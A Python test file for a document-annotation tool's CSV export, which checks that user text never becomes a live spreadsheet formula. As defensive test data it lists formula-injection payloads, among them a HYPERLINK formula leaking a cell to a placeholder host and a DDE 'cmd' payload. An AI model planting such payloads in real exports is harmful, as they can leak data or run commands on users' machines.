"""Issue 17 item 5: user text in the CSV export never becomes a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from policylens.core.document import Document
from policylens.export.labels import export_csv
from policylens.store.database import open_store

# What an attacker (or an unlucky reviewer) types, in every free-text field.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=3+4",
)


def _library_with_formulas(path: Path) -> Path:
    store = open_store(path)
    try:
        text = "=1+1 a policy whose first line is a formula\n-5+5 and the second one too.\n"
        document = Document.from_text(text, title="=2+2", format="txt")
        store.documents.add(document)
        for number, formula in enumerate(FORMULAS):
            store.annotations.add(
                document.sha256,
                0,
                4 + number % 2,
                "other",
                annotator=f"=6*7 annotator {number}" if number == 0 else "@annotator",
                note=formula,
                status="+status" if number == 0 else "",
                tags=("=tag",),
            )
    finally:
        store.close()
    return path


def _csv_text(tmp_path: Path) -> str:
    store = open_store(_library_with_formulas(tmp_path / "lib.sqlite3"))
    try:
        out = io.StringIO()
        export_csv(store, out)
    finally:
        store.close()
    return out.getvalue()


def test_no_cell_starts_a_formula(tmp_path: Path) -> None:
    rows = list(csv.reader(io.StringIO(_csv_text(tmp_path))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    notes = {row[rows[0].index("note")] for row in rows[1:]}
    assert notes == {"'" + formula for formula in FORMULAS}  # the text itself is kept
    quotes = {row[rows[0].index("quote")] for row in rows[1:]}
    assert quotes == {"'=1+1", "'=1+1 "}
    assert {row[1] for row in rows[1:]} == {"'=2+2"}


def _calc_installed() -> bool:
    soffice = shutil.which("soffice")
    if soffice is None:
        return False
    program = Path(soffice).resolve().parent
    return (
        any(program.glob("libsclo.so"))
        or any(program.glob("*sc*.dll"))
        or any(program.parent.glob("**/libsclo.so"))
    )


@pytest.mark.skipif(
    not _calc_installed(),
    reason="LibreOffice Calc missing (soffice without it cannot open CSV; "
    "Debian: libreoffice-calc-nogui, in make system-deps)",
)
def test_libreoffice_evaluates_no_formula(tmp_path: Path) -> None:
    """The exported CSV, and as a control the same cells without the fix, converted by
    LibreOffice headless: the control has formulas (so the check can see them), ours none."""
    ours = tmp_path / "ours.csv"
    ours.write_text(_csv_text(tmp_path), "utf-8-sig")
    control = tmp_path / "control.csv"
    with control.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([["note"], *([f] for f in FORMULAS)])
    profile = (tmp_path / "lo-profile").as_uri()
    converted = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from line 1
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path / "out"),
            str(ours),
            str(control),
        ],
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert converted.returncode == 0, converted.stderr
    control_sheet = (tmp_path / "out" / "control.fods").read_text("utf-8")
    our_sheet = (tmp_path / "out" / "ours.fods").read_text("utf-8")
    assert "table:formula=" in control_sheet
    assert "table:formula=" not in our_sheet
    assert "HYPERLINK" in our_sheet  # the note is there, as text
